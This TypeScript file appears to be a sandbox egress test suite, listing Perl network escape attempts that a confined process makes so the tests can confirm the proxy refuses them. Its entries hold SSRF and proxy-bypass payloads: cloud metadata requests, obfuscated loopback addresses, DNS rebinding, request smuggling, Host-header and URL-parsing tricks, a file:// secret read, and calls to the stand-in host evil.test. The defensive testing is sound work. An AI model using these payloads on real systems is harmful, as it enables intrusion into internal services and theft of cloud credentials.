import { type Attempt, perl } from "../attempt.ts";

/** Straight to an address, without the proxy. */
const straight = (id: string, what: string, text: string, rest: Partial<Attempt> = {}): Attempt => perl("network", id, what, text, rest);

/** Sends some bytes to the proxy; where there is none, to the host's own server, as a machine with a network would. */
const asked = (id: string, what: string, bytes: string): Attempt =>
	perl(
		"network",
		id,
		what,
		`my $line = reach(inet($ENV{PROXY} || $ENV{PORT}, "127.0.0.1"), AF_INET, SOCK_STREAM) or exit; my $bytes = "${bytes}"; $bytes =~ s/PORT/$ENV{PORT}/g;
unless ($ENV{PROXY}) { say_id($line); exit } print $line $bytes; local $SIG{ALRM} = sub { exit }; alarm 2; my $seen = ""; while (sysread($line, my $part, 4096)) { $seen .= $part; last if $seen =~ /\\r\\n\\r\\n/ }
print "answered: ", $seen =~ /^(\\S+ \\d+)/, "\\n"; if ($seen =~ /^HTTP\\/1.1 200/) { print $line "[$id]\\n"; sysread($line, my $rest, 4096) }`,
		{ stage: "network" },
	);
const connect = (id: string, what: string, target: string): Attempt =>
	asked(id, what, `CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n`);
const get = (id: string, what: string, url: string, headers = ""): Attempt =>
	asked(id, what, `GET ${url} HTTP/1.1\\r\\n${headers === "" ? "Host: allowed.test\\r\\n" : headers}Connection: close\\r\\n\\r\\n`);

/** Reaches hosts that are not granted. `allowed.test:80` is. */
export const NETWORK: readonly Attempt[] = [
	straight(
		"loopback",
		"connects to a server on the host's loopback",
		'my $line = reach(inet($ENV{PORT}, "127.0.0.1"), AF_INET, SOCK_STREAM); say_id($line);',
	),
	straight(
		"loopback-6",
		"does the same by IPv6",
		'my $line = reach(pack_sockaddr_in6($ENV{PORT}, inet_pton(AF_INET6, "::1")), AF_INET6, SOCK_STREAM); say_id($line);',
	),
	straight(
		"loopback-datagram",
		"sends a datagram to the host's loopback",
		'my $line = reach(inet($ENV{PORT}, "127.0.0.1"), AF_INET, SOCK_DGRAM); send($line, "[$id]", 0) if $line; select(undef, undef, undef, 0.1);',
	),
	straight(
		"datagram-out",
		"has a way out for datagrams, such as questions to a name server",
		'my $line = reach(inet(53, "192.0.2.1"), AF_INET, SOCK_DGRAM); print "escaped\\n" if $line;',
		{ refusal: /unreachable/ },
	),
	straight(
		"metadata",
		"connects to the metadata service of a cloud",
		'local $SIG{ALRM} = sub { print "escaped: packets leave\\n"; exit }; alarm 1; my $line = reach(inet(80, "169.254.169.254"), AF_INET, SOCK_STREAM); print "escaped\\n" if $line;',
		{ refusal: /unreachable/ },
	),
	straight(
		"private-address",
		"connects to a machine of the local network",
		'local $SIG{ALRM} = sub { print "escaped: packets leave\\n"; exit }; alarm 1; my $line = reach(inet(9, "192.0.2.1"), AF_INET, SOCK_STREAM); print "escaped\\n" if $line;',
		{ refusal: /unreachable/ },
	),
	straight(
		"loopback-beside-proxy",
		"goes past the proxy to the host's loopback",
		'my $line = reach(inet($ENV{PORT}, "127.0.0.1"), AF_INET, SOCK_STREAM); say_id($line);',
		{ stage: "network" },
	),
	get("proxy-host", "asks the proxy for a host that is not granted", "http://evil.test/[$id]"),
	connect("proxy-tunnel", "asks for a tunnel to a host that is not granted", "evil.test:443"),
	connect("proxy-port", "asks for another port of a granted host", "allowed.test:22"),
	get("proxy-port-plain", "does the same without a tunnel", "http://allowed.test:8080/[$id]"),
	connect("proxy-loopback", "asks for the host's loopback", "127.0.0.1:PORT"),
	connect("proxy-localhost", "asks for the host's loopback by name", "localhost:PORT"),
	connect("proxy-decimal", "writes the loopback as one number", "2130706433:PORT"),
	connect("proxy-hexadecimal", "writes the loopback in hexadecimal", "0x7f000001:PORT"),
	connect("proxy-octal", "writes the loopback in octal", "0177.0.0.1:PORT"),
	connect("proxy-short", "writes the loopback short", "127.1:PORT"),
	connect("proxy-zero", "writes the loopback as nothing", "0.0.0.0:PORT"),
	connect("proxy-6", "asks for the loopback of IPv6", "[::1]:PORT"),
	connect("proxy-mapped", "writes the loopback as an address of IPv6", "[::ffff:127.0.0.1]:PORT"),
	connect("proxy-metadata", "asks for the metadata service of a cloud", "169.254.169.254:80"),
	get("proxy-metadata-plain", "does the same without a tunnel", "http://169.254.169.254/[$id]"),
	connect("proxy-metadata-name", "asks for the metadata service by a granted name", "metadata.test:80"),
	connect("proxy-metadata-6", "asks for the metadata service by IPv6", "[fd00:ec2::254]:80"),
	connect("proxy-private", "asks for a private address", "10.0.0.1:80"),
	connect("proxy-inward-name", "asks for a granted name that means the loopback", "inward.test:80"),
	connect("proxy-private-name", "asks for a granted name that means a private address", "private.test:80"),
	asked(
		"proxy-rebinding",
		"asks for a granted name that means the loopback from the second question on",
		"CONNECT rebinding.test:80 HTTP/1.1\\r\\n\\r\\n",
	),
	get(
		"proxy-host-header",
		"names a granted host in the header and another one in the request",
		"http://evil.test/[$id]",
		"Host: allowed.test\\r\\n",
	),
	asked(
		"proxy-origin-form",
		"names the host in the header only",
		"GET /[$id] HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
	),
	asked(
		"proxy-kept-alive",
		"asks for a granted host, then for another one on the same connection",
		"GET http://allowed.test/fine HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/[$id] HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
	),
	asked(
		"proxy-smuggling",
		"hides a second request in the body of the first",
		"POST http://allowed.test/fine HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test/[$id] HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
	),
	get("proxy-user", "puts the granted host before an @", "http://allowed.test\\@evil.test/[$id]"),
	connect("proxy-user-tunnel", "does the same in a tunnel", "allowed.test:80\\@evil.test:80"),
	connect("proxy-suffix", "asks for a host whose name begins like the granted one", "allowed.test.evil.test:80"),
	connect("proxy-prefix", "asks for a host whose name ends like the granted one", "notallowed.test:80"),
	get("proxy-fragment", "hides the host behind a fragment", "http://evil.test#allowed.test/[$id]"),
	get("proxy-backslash", "hides the host behind a backslash", "http://evil.test\\\\\\\\\\@allowed.test/[$id]"),
	asked("proxy-line", "breaks the line of the request", "CONNECT allowed.test:80\\rHost: x evil.test:80 HTTP/1.1\\r\\n\\r\\n"),
	get("proxy-scheme", "asks the proxy for a file of the host", "file://$ENV{SECRET}"),
];
